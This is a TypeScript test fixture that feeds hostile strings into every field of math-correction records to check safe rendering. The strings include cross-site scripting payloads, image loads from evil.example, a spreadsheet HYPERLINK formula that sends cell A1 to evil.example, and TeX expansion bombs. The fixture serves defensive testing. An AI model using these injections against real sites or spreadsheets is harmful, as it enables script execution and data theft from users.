import { type CorrectionLine, jsonLines } from "./arrange.ts";

/** A script that runs leaves its mark here. */
export const mark = "errataWasHacked";
const run = `window.${mark}=1`;

/** Texts that want to be something else than text: markup, links, TeX without end, formulas of a spreadsheet. */
export const hostileTexts: readonly string[] = [
  `<script>${run}</script>`,
  `<img src="http://evil.example/x.png" onerror="${run}">`,
  `</textarea></script><svg onload="${run}">`,
  `[a link](javascript:${run}) ![a picture](http://evil.example/y.png)`,
  `<iframe srcdoc="<script>parent.${mark}=1</script>"></iframe>`,
  `=HYPERLINK("http://evil.example/?"&A1,"open me")`,
  `$\\href{javascript:${run}}{x}$ and $\\includegraphics{http://evil.example/z.png}$`,
  "$\\def\\a{\\a\\a}\\a$",
  "$\\def\\b{xxxxxxxxxx}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c\\c\\c\\c\\c}\\d\\d\\d\\d\\d\\d\\d\\d$",
  `$${"{".repeat(900)}x${"}".repeat(900)}$`,
  "$\\rule{99999em}{99999em}$ $\\frac{1}{$ \\begin{align} no end",
  "\u202Eright to left\u202C, a bell\u0007, \uFFFD, a family \u{1F469}\u200D\u{1F467} and a constructor __proto__",
  "nospaces".repeat(400),
];

/** A file with one kept correction for each hostile text, which stands in every field of its line. */
export function hostileFile(): string {
  const lines = hostileTexts.map(
    (text, index): CorrectionLine => ({
      id: `${text.slice(0, 80)} ${index}`,
      question: `${text} What is 2 + 2, the ${index}th time?`,
      gold_answer: "4",
      gold_solution: `${text}\n2 + 2 = 4\n#### 4`,
      level: text.slice(0, 40),
      subject: text.slice(0, 40),
      reasoner: text.slice(0, 120),
      path: `Step 1: 2 + 2 = 5 ${text}\nStep 2: The answer is 5.`,
      corrector: text.slice(0, 120),
      reply: `Incorrect Step: Step 1.\nExplanation: ${text} is no reason.\nCorrect Solution:\n{\nStep 1: 2 + 2 = 4 ${text}\nStep 2: The answer is 4.\n}`,
    }),
  );
  const bad = hostileTexts.map((text) => ({ path: text, reply: text, gold_answer: text }));
  return jsonLines([...lines, ...bad]);
}
